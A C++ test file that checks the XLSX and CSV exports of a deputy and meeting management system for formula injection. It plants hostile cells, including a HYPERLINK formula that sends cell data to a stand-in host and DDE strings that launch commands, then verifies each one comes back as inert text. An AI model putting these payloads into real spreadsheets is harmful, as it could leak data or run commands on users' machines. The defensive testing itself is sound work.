// Exports are inert (issue 15 §4, OWASP "CSV Injection"): text that a
// spreadsheet would run as a formula — a cell beginning with =, +, -, @, a
// tab or a carriage return — is put, through the API, into every kind of
// record that an export shows (a deputy's name, a committee member's, a
// voter representative's name and village, an opinion and its constituent,
// the cells of an imported file that were skipped), and every XLSX and CSV
// export route is then read back: an XLSX holds no formula at all and the
// text comes back as the text typed (a string cell), a CSV cell that
// Excel would run starts with an apostrophe. A number shuzhi writes as a
// number ("-3" in a CSV) stays one.
#include <chrono>
#include <set>
#include <thread>

#include "export/csv.h"
#include "export/office_zip.h"
#include "export/xlsx_reader.h"
#include "export/zip_archive.h"
#include "meeting_api_fixture.h"

namespace shuzhi::testing {
namespace {

// What a spreadsheet would run: a formula, a DDE call, a link.
const std::string kLink = R"(=HYPERLINK("http://example.invalid/?d="&A1,"详情"))";
const std::string kDde = "+cmd|' /C calc'!A0";
const std::string kSum = "-1+2";
const std::string kAt = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string kTab = "\t=1+2";
const std::string kCr = "\r=1+2";

bool Dangerous(const std::string& cell) {
  if (cell.empty()) return false;
  const char c = cell.front();
  if (c == '=' || c == '@' || c == '\t' || c == '\r') return true;
  if (c != '+' && c != '-') return false;
  // A plain number ("-3", "+2.5") is one, not a formula.
  std::size_t digits = 0, dots = 0;
  for (std::size_t i = 1; i < cell.size(); ++i) {
    if (cell[i] >= '0' && cell[i] <= '9') {
      ++digits;
    } else if (cell[i] == '.') {
      ++dots;
    } else {
      return true;
    }
  }
  return digits == 0 || dots > 1;
}

// `text` as one CSV field.
std::string CsvField(const std::string& text) {
  std::string out = "\"";
  for (const char c : text) out += c == '"' ? std::string("\"\"") : std::string(1, c);
  return out + "\"";
}

class ExportInertApiTest : public MeetingApiTest {
 protected:
  // Every sheet of `xlsx` without a formula, and its first sheet holding
  // each of `expected` as a cell's whole text.
  void CheckXlsx(const std::string& what, const std::string& xlsx, const std::vector<std::string>& expected) {
    SCOPED_TRACE(what);
    ++files_;
    auto zip = exports::OfficeZip::Open(xlsx, {std::uint64_t{1} << 30, 1000});
    ASSERT_TRUE(zip.ok()) << zip.status().ToString() << " " << xlsx.substr(0, 200);
    int sheets = 0;
    for (const auto& name : (*zip)->names()) {
      if (name.rfind("xl/worksheets/sheet", 0) != 0) continue;
      auto xml = (*zip)->Read(name);
      ASSERT_TRUE(xml.ok() && xml->has_value()) << name;
      ++sheets;
      EXPECT_EQ(xml->value().find("<f>"), std::string::npos) << name << ": a formula";
      EXPECT_EQ(xml->value().find("<f "), std::string::npos) << name << ": a formula";
      EXPECT_EQ(xml->value().find("t=\"str\""), std::string::npos) << name << ": a formula's result";
    }
    EXPECT_GE(sheets, 1);
    auto table = exports::ReadXlsxFirstSheet(xlsx);
    ASSERT_TRUE(table.ok()) << table.status().ToString();
    std::set<std::string> cells;
    for (const auto& row : table->rows) cells.insert(row.begin(), row.end());
    for (const auto& e : expected) {
      EXPECT_TRUE(cells.count(e)) << "not a cell as typed: " << ::testing::PrintToString(e);
      found_.insert(e);
    }
  }

  // No cell of `csv` that a spreadsheet would run; each of `expected` as a
  // cell behind the apostrophe.
  void CheckCsv(const std::string& what, const std::string& csv, const std::vector<std::string>& expected) {
    SCOPED_TRACE(what);
    ++files_;
    auto table = exports::ReadCsv(csv);
    ASSERT_TRUE(table.ok()) << table.status().ToString();
    ASSERT_GE(table->rows.size(), 2u) << csv.substr(0, 200);
    std::set<std::string> cells;
    for (const auto& row : table->rows) {
      for (const auto& cell : row) {
        EXPECT_FALSE(Dangerous(cell)) << ::testing::PrintToString(cell);
        cells.insert(cell);
      }
    }
    for (const auto& e : expected) {
      EXPECT_TRUE(cells.count("'" + e)) << "not guarded: " << ::testing::PrintToString(e);
      found_.insert(e);
    }
  }

  // Both formats of an export route that offers both.
  void CheckBoth(const std::string& url, const std::vector<std::string>& expected) {
    const std::string sep = url.find('?') == std::string::npos ? "?" : "&";
    const HttpResult x = Get(org_, url + sep + "format=xlsx");
    ASSERT_EQ(x.status, 200) << url << " " << x.body.substr(0, 300);
    CheckXlsx(url + " (xlsx)", x.body, expected);
    const HttpResult c = Get(org_, url + sep + "format=csv");
    ASSERT_EQ(c.status, 200) << url << " " << c.body.substr(0, 300);
    EXPECT_EQ(c.Header("content-type").rfind("text/csv", 0), 0u) << url;
    CheckCsv(url + " (csv)", c.body, expected);
  }

  // Replaces `field` of the record at `url` (a PUT of the whole record, as
  // read from `read`).
  void Put(const std::string& url, json::object record, const std::map<std::string, std::string>& fields) {
    for (const auto& [k, v] : fields) record[k] = v;
    const HttpResult r = Send(org_, "PUT", url, json::serialize(record));
    ASSERT_EQ(r.status, 200) << url << " " << r.body;
  }

  void Poison();
  void HoldAPoll();
  void CheckImportSkipped();
  void CheckArchive();

  std::int64_t congress_ = 0, town_ = 0, group_ = 0, deputy_ = 0, town_deputy_ = 0, meeting_ = 0;
  int files_ = 0;
  std::set<std::string> found_;
};

// The hostile text, typed where exports will show it.
void ExportInertApiTest::Poison() {
  const auto committee = Json(Get(org_, "/api/v1/campaigns/" + std::to_string(committee_)));
  const auto voter = Json(Get(org_, "/api/v1/campaigns/" + std::to_string(voter_)));
  congress_ = committee.at("congress_id").as_int64();
  town_ = voter.at("congress_id").as_int64();
  group_ = Json(Get(LogIn("leader"), "/api/v1/me")).at("user").at("roles").at(0).at("group_id").as_int64();
  deputy_ = Reporting(committee_).at(0);
  town_deputy_ = Reporting(voter_, group_).at(0);
  for (const auto& [id, name] : {std::pair{deputy_, kLink}, std::pair{town_deputy_, kAt}}) {
    const std::string url = "/api/v1/deputies/" + std::to_string(id);
    Put(url, Json(Get(org_, url)).at("deputy").as_object(), {{"name", name}});
  }
  const auto members = Json(Get(org_, "/api/v1/congresses/" + std::to_string(congress_) + "/committee-members"));
  const auto& member = members.at("items").at(0).as_object();
  Put("/api/v1/committee-members/" + std::to_string(member.at("id").as_int64()), member, {{"name", kDde}});
  const auto reps = Json(Get(org_, "/api/v1/groups/" + std::to_string(group_) + "/voter-reps"));
  const auto& rep = reps.at("items").at(0).as_object();
  Put("/api/v1/voter-reps/" + std::to_string(rep.at("id").as_int64()), rep, {{"name", kSum}, {"village", kTab}});
  const HttpResult opinion = Send(org_, "POST", "/api/v1/deputies/" + std::to_string(town_deputy_) + "/opinions",
                                  json::serialize(json::object{{"source", "visit"},
                                                               {"received_on", "2026-06-01"},
                                                               {"content", kCr},
                                                               {"constituent", kDde},
                                                               {"campaign_id", voter_}}));
  ASSERT_EQ(opinion.status, 201) << opinion.body;
}

// A poll on the renamed committee deputy, held and closed: its result
// record carries the name.
void ExportInertApiTest::HoldAPoll() {
  OnePoll p = OpenOneDeputyPoll(25, 25);
  ASSERT_EQ(p.deputy, deputy_);
  for (const auto& code : p.slips) ASSERT_EQ(Cast(code, p.poll, {{p.deputy, p.satisfied}}).status, 200);
  ASSERT_EQ(Send(org_, "POST", "/api/v1/polls/" + std::to_string(p.poll) + "/close", "").status, 204);
  meeting_ = p.id;
}

// An imported file's rows that were skipped for their problems, exported
// as they were read: every hostile cell, tab and CR included.
void ExportInertApiTest::CheckImportSkipped() {
  const std::string csv = "姓名,性别,出生年份,职业类别,村（社区）,联系电话\n" + CsvField(kLink) + ",未知,1970,农民," +
                          CsvField(kTab) + "," + CsvField(kDde) + "\n" + CsvField(kAt) + ",未知,1971,农民," +
                          CsvField(kCr) + "," + kSum +
                          "\n钱六,未知,1973,农民,洞桥村,-3\n王五,男,1972,农民,洞桥村,13800138000\n";
  const HttpResult up =
      HttpCall(port_, "POST", "/api/v1/imports?kind=voter_reps&group_id=" + std::to_string(group_), csv,
               {{"Cookie", org_.cookie},
                {"X-CSRF-Token", org_.csrf},
                {"Content-Type", "application/octet-stream"},
                {"X-File-Name", "reps.csv"}});
  ASSERT_EQ(up.status, 202) << up.body;
  const std::string id(Json(up).at("id").as_string());
  auto await = [&] {
    json::value v;
    for (int i = 0; i < 400; ++i) {
      v = Json(Get(org_, "/api/v1/imports/" + id));
      if (v.at("state") != "validating" && v.at("state") != "applying") break;
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    return v;
  };
  const auto job = await();
  ASSERT_EQ(job.at("state"), "ready") << json::serialize(job);
  const HttpResult apply = Send(org_, "POST", "/api/v1/imports/" + id + "/apply", R"({"skip_problem_rows":true})");
  ASSERT_EQ(apply.status, 202) << apply.body;
  const auto done = await();
  ASSERT_EQ(done.at("applied").at("skipped").as_int64(), 3) << json::serialize(done);
  CheckBoth("/api/v1/imports/" + id + "/skipped", {kLink, kTab, kDde, kAt, kCr});
  // A plain number is not guarded: it stays a number.
  const auto plain = exports::ReadCsv(Get(org_, "/api/v1/imports/" + id + "/skipped?format=csv").body);
  ASSERT_TRUE(plain.ok());
  EXPECT_EQ(plain->rows.at(3).at(5), "-3");
}

// The group's archive of the closed campaign: every XLSX in it.
void ExportInertApiTest::CheckArchive() {
  ASSERT_EQ(
      Send(org_, "POST", "/api/v1/campaigns/" + std::to_string(voter_) + "/state", R"({"state":"closed"})").status,
      200);
  const HttpResult build = Send(org_, "POST", "/api/v1/campaigns/" + std::to_string(voter_) + "/archives",
                                json::serialize(json::object{{"group_id", group_}}));
  ASSERT_EQ(build.status, 202) << build.body;
  const std::string url = "/api/v1/archives/" + std::to_string(Json(build).at("id").as_int64());
  for (int i = 0; i < 1200 && Json(Get(org_, url)).at("state") == "building"; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  const HttpResult zip = Get(org_, url + "/download");
  ASSERT_EQ(zip.status, 200) << zip.body.substr(0, 300);
  auto entries = exports::ReadZipEntries(zip.body, {std::uint64_t{1} << 30, 10'000});
  ASSERT_TRUE(entries.ok()) << entries.status().ToString();
  int xlsx = 0;
  for (const auto& [path, bytes] : *entries) {
    if (!path.ends_with(".xlsx")) continue;
    ++xlsx;
    CheckXlsx("archive " + path, bytes,
              path == "opinions.xlsx" ? std::vector<std::string>{kAt, kDde, kCr} : std::vector<std::string>{});
  }
  EXPECT_GE(xlsx, 3);
}

TEST_F(ExportInertApiTest, EveryXlsxAndCsvExportWritesFormulaTextAsText) {
  t_->AddUser("admin", {{core::Role::kAdmin, {}, {}, {}}});
  Poison();
  HoldAPoll();
  const std::string c = std::to_string(congress_), g = std::to_string(group_);
  CheckBoth("/api/v1/roster/export?congress_id=" + std::to_string(town_), {kAt});
  CheckBoth("/api/v1/congresses/" + c + "/committee-members/export", {kDde});
  CheckBoth("/api/v1/groups/" + g + "/voter-reps/export", {kSum, kTab});
  CheckBoth("/api/v1/groups/" + g + "/rotation/export", {kAt});
  CheckBoth("/api/v1/meetings/" + std::to_string(meeting_) + "/results/export", {kLink});
  // The audit log names each entry's actor by their display name: a user
  // named like a formula logs in.
  const Login admin = LogIn("admin");
  const HttpResult user = Send(
      admin, "POST", "/api/v1/users",
      json::serialize(json::object{
          {"username", "formula"},
          {"display_name", kLink},
          {"password", app::testing::kPassword},
          {"roles",
           json::array{json::object{
               {"role", "reviewer"}, {"congress_id", congress_}, {"group_id", nullptr}, {"deputy_id", nullptr}}}}}));
  ASSERT_EQ(user.status, 201) << user.body;
  ASSERT_EQ(PostLogin("formula", app::testing::kPassword).status, 200);
  for (const char* format : {"xlsx", "csv"}) {
    const HttpResult a = Get(admin, std::string("/api/v1/audit/export?format=") + format);
    ASSERT_EQ(a.status, 200) << a.body.substr(0, 300);
    if (std::string(format) == "xlsx") {
      CheckXlsx("audit (xlsx)", a.body, {kLink});
    } else {
      CheckCsv("audit (csv)", a.body, {kLink});
    }
  }
  for (const auto campaign : {committee_, voter_}) {
    const HttpResult s = Get(org_, "/api/v1/campaigns/" + std::to_string(campaign) + "/summary.xlsx");
    ASSERT_EQ(s.status, 200) << s.body.substr(0, 300);
    CheckXlsx("summary.xlsx", s.body, {campaign == committee_ ? kLink : kAt});
  }
  const auto year = Json(Get(org_, "/api/v1/campaigns/" + std::to_string(voter_))).at("spec").at("year").as_int64();
  const HttpResult a =
      Get(org_, "/api/v1/congresses/" + std::to_string(town_) + "/assessment.xlsx?year=" + std::to_string(year));
  ASSERT_EQ(a.status, 200) << a.body.substr(0, 300);
  CheckXlsx("assessment.xlsx", a.body, {kAt});
  CheckImportSkipped();
  CheckArchive();
  EXPECT_EQ(found_, (std::set<std::string>{kLink, kDde, kSum, kAt, kTab, kCr}));
  std::printf("inert exports: %d files read back, %zu hostile values found as text\n", files_, found_.size());
}

}  // namespace
}  // namespace shuzhi::testing
